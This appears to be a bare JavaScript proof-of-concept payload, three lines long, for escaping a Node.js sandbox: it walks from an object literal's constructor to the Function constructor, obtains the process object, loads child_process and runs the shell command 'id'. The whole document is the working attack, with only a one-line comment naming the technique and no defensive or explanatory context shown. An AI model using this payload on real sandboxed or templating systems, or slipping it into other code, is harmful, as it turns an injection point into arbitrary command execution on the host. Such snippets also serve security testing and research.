// class-walk: an object literal's constructor's constructor is Function
const proc = ({}).constructor.constructor('return process')();
proc.mainModule.require('child_process').execSync('id');
